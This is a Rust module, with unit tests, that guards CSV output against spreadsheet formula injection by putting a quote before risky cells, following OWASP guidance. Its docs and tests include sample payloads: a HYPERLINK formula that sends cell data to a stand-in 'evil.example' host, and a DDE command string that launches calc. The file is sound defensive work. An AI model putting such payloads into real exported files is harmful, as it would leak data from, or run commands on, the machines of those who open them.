//! CSV cells that a spreadsheet will not run as formulas.
//!
//! `firmo enrich` writes cells from the input file and from provider text; a cell such as
//! `=HYPERLINK("https://evil.example/?"&A2)` or `@SUM(…)` is evaluated when someone opens
//! the file in Excel, Calc or Google Sheets. OWASP's guidance is followed (ASVS 5.0
//! requirement 1.2.10, "CSV and Formula Injection"):
//!
//! > "special characters (including '=', '+', '-', '@', '\t' (tab), and '\0' (null
//! > character)) must be escaped with a single quote if they appear as the first
//! > character in a field value"
//!
//! and OWASP's "CSV Injection" page lists carriage return (0x0D) too. So a cell starting
//! with any of `=` `+` `-` `@` tab CR NUL gets a leading `'`, which spreadsheets show as
//! text and do not evaluate. Quoting of commas, quotes and newlines (RFC 4180 2.6/2.7,
//! the other half of that requirement) is the CSV writer's job, not this function's.
//!
//! One exception, decided on purpose: a cell that is a plain decimal number (`-5`,
//! `+3`, `-12.5`) is left alone. Negative values are real data here (employee growth
//! over six months is often negative), a spreadsheet reads such a cell as the number it
//! is, and there is no room in `-12.5` for a function call or a reference; prefixing it
//! would turn every negative growth into text and break sorting and sums. Anything else
//! after the sign (`-1+1`, `-A1`, `+cmd|…`, `-5 `) is neutralised.
//!
//! `--raw` (wired by the CLI) skips this for users who post-process the file with tools
//! that would keep the `'`.

use std::borrow::Cow;

/// `cell`, with a leading `'` when a spreadsheet would read it as a formula (see the
/// module docs); borrowed and unchanged otherwise.
pub(crate) fn neutralize(cell: &str) -> Cow<'_, str> {
    let Some(first) = cell.chars().next() else {
        return Cow::Borrowed(cell);
    };
    let triggers = matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r' | '\0');
    if !triggers || is_plain_number(cell) {
        return Cow::Borrowed(cell);
    }
    Cow::Owned(format!("'{cell}"))
}

/// An optional sign, digits, and at most one `.` followed by digits: nothing else.
fn is_plain_number(cell: &str) -> bool {
    let unsigned = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (whole, fraction) = match unsigned.split_once('.') {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (unsigned, None),
    };
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && fraction.is_none_or(digits)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_triggers_get_a_leading_quote() {
        for (cell, safe) in [
            ("=1+1", "'=1+1"),
            (
                "=HYPERLINK(\"https://evil.example/?\"&A2)",
                "'=HYPERLINK(\"https://evil.example/?\"&A2)",
            ),
            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("\0=1", "'\0=1"),
            ("-", "'-"),
            ("+", "'+"),
            ("=", "'="),
        ] {
            let got = neutralize(cell);
            assert_eq!(got, safe, "{cell:?}");
            assert!(matches!(got, Cow::Owned(_)));
        }
    }

    #[test]
    fn ordinary_text_is_borrowed_unchanged() {
        for cell in [
            "",
            "Acme Analytics",
            "acme.com",
            "Software & Services",
            "a=b",
            "1+1",
            " =1+1",
            "'=already quoted",
            "AWS;React",
        ] {
            assert!(
                matches!(neutralize(cell), Cow::Borrowed(c) if c == cell),
                "{cell:?}"
            );
        }
    }

    /// Negative and signed numbers stay numbers (see the module docs for why).
    #[test]
    fn plain_signed_numbers_are_left_alone_but_not_lookalikes() {
        for cell in ["-5", "+3", "-12.5", "120", "0.25", "-0"] {
            assert_eq!(neutralize(cell), cell, "{cell:?}");
        }
        for cell in [
            "-5 ", "-5.", "-.5", "-1e3", "-1.2.3", "--5", "-5,0", "-A1", "-1+1",
        ] {
            assert_eq!(neutralize(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn multibyte_text_after_a_trigger_is_kept_whole() {
        assert_eq!(neutralize("=Société"), "'=Société");
        assert_eq!(neutralize("Ünïcode"), "Ünïcode");
    }
}
